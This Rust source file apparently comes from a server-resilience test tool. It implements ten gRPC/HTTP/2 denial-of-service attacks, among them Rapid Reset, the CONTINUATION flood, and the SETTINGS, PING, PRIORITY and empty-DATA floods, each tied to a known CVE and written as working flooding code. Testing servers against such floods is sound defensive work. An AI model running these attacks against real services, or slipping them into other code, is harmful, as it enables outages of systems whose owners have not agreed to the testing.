//! gRPC: frames without end.

use std::io;

use crate::attack::{Attack, MIB, Wire};
use crate::raw::h2::{H2, greet};
use crate::raw::h2_frames::{
    CONTINUATION, DATA, HEADERS, MAX_FRAME, PING, PRIORITY, RST_STREAM, WINDOW_UPDATE, frame,
    headers, request, settings,
};
use crate::stage::{Stage, broken};

use super::bounds::{LITTLE, grpc_waiting};

/// CANCEL.
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

pub fn attacks() -> Vec<Attack> {
    let attack = |name, about, memory, run| Attack::on_server(name, about, Wire::Grpc, memory, run);
    vec![
        attack(
            "grpc-rapid-reset",
            "HEADERS and RST_STREAM, one call after the other (CVE-2023-44487)",
            64 * MIB,
            rapid_reset,
        ),
        attack(
            "grpc-continuation-flood",
            "CONTINUATION without END_HEADERS (CVE-2024-27316)",
            // The list of headers may have 16 MiB, in a buffer that doubles.
            LITTLE + 32 * MIB,
            continuation_flood,
        ),
        attack(
            "grpc-settings-flood",
            "SETTINGS, and nobody reads that they are acknowledged (CVE-2019-9515)",
            LITTLE,
            |stage| unread_flood(stage, &settings(&[]), 1_000_000),
        ),
        attack(
            "grpc-ping-flood",
            "PING, and nobody reads the answers (CVE-2019-9512)",
            LITTLE,
            |stage| unread_flood(stage, &frame(PING, 0, 0, &[0; 8]), 1_000_000),
        ),
        attack(
            "grpc-empty-data-flood",
            "DATA without a byte (CVE-2019-9518)",
            LITTLE,
            empty_data,
        ),
        attack(
            "grpc-priority-flood",
            "PRIORITY for streams that do not exist (CVE-2019-9513)",
            LITTLE,
            |stage| unread_flood(stage, &frame(PRIORITY, 0, 9, &[0, 0, 0, 3, 1]), 1_000_000),
        ),
        attack(
            "grpc-window-flood",
            "WINDOW_UPDATE of a byte, and of more than a window may be",
            LITTLE,
            window_flood,
        ),
        attack(
            "grpc-unknown-frames",
            "frames of a type that HTTP/2 does not have",
            LITTLE,
            |stage| unread_flood(stage, &frame(0xfe, 0, 1, &[0; MAX_FRAME]), 40_000),
        ),
        attack(
            "grpc-reused-ids",
            "HEADERS for streams that are open, over, even or smaller than others",
            LITTLE,
            reused_ids,
        ),
        attack(
            "grpc-data-after-reset",
            "DATA for streams that the client has reset",
            grpc_waiting(),
            data_after_reset,
        ),
    ]
}

fn rapid_reset(stage: &Stage) -> io::Result<()> {
    let mut h2 = H2::connect(stage, &[])?;
    let block = request();
    for _ in 0..stage.scale.of(10_000, 200_000) {
        let id = h2.next_id();
        let both = [headers(id, 0, &block), frame(RST_STREAM, 0, id, &CANCEL)].concat();
        if !h2.send(&both) {
            break;
        }
    }
    Ok(())
}

fn continuation_flood(stage: &Stage) -> io::Result<()> {
    for _ in 0..stage.scale.of(1, 4) {
        let mut h2 = H2::connect(stage, &[])?;
        let id = h2.next_id();
        let piece = vec![b'z'; MAX_FRAME];
        if h2.send(&frame(HEADERS, 0, id, &request())) {
            h2.flood(&frame(CONTINUATION, 0, id, &piece), 8192);
        }
        if h2.send(&[0]) && h2.call().is_some() {
            return broken("the server takes headers without an end");
        }
    }
    Ok(())
}

/// Frames that the server may answer; the answers are not read.
fn unread_flood(stage: &Stage, bytes: &[u8], times: usize) -> io::Result<()> {
    let mut raw = stage.connect()?;
    greet(&mut raw, &[])?;
    raw.flood(bytes, stage.scale.of(times / 10, times));
    stage.hold();
    Ok(())
}

fn empty_data(stage: &Stage) -> io::Result<()> {
    let mut h2 = H2::connect(stage, &[])?;
    for order in ["deaf", "sink"] {
        let Some(id) = h2.open(order) else { break };
        h2.flood(&frame(DATA, 0, id, &[]), stage.scale.of(100_000, 1_000_000));
    }
    stage.hold();
    Ok(())
}

fn window_flood(stage: &Stage) -> io::Result<()> {
    let mut h2 = H2::connect(stage, &[])?;
    let id = h2.open("deaf").unwrap_or(1);
    let update = |stream, by: u32| frame(WINDOW_UPDATE, 0, stream, &by.to_be_bytes());
    let both = [update(0, 1), update(id, 1)].concat();
    h2.flood(&both, stage.scale.of(100_000, 500_000));
    let _ = h2.send(&update(id, 0x7fff_ffff));
    let _ = h2.send(&update(0, 0x7fff_ffff));
    stage.hold();
    Ok(())
}

fn reused_ids(stage: &Stage) -> io::Result<()> {
    for _ in 0..stage.scale.of(20, 200) {
        for wrong in [7, 8, 3] {
            if stage.is_over() {
                return Ok(());
            }
            let mut h2 = H2::connect(stage, &[])?;
            let block = request();
            let _ = h2.send(&headers(5, 0, &block));
            let _ = h2.send(&headers(7, 0, &block));
            h2.flood(&headers(wrong, 0, &block), 100);
        }
    }
    Ok(())
}

fn data_after_reset(stage: &Stage) -> io::Result<()> {
    let mut h2 = H2::connect(stage, &[])?;
    let piece = vec![0; MAX_FRAME];
    for _ in 0..stage.scale.of(500, 5000) {
        let Some(id) = h2.open("deaf") else { break };
        let reset = frame(RST_STREAM, 0, id, &CANCEL);
        if !h2.take_window(id, MAX_FRAME) || !h2.send(&[reset, frame(DATA, 0, id, &piece)].concat())
        {
            break;
        }
    }
    Ok(())
}
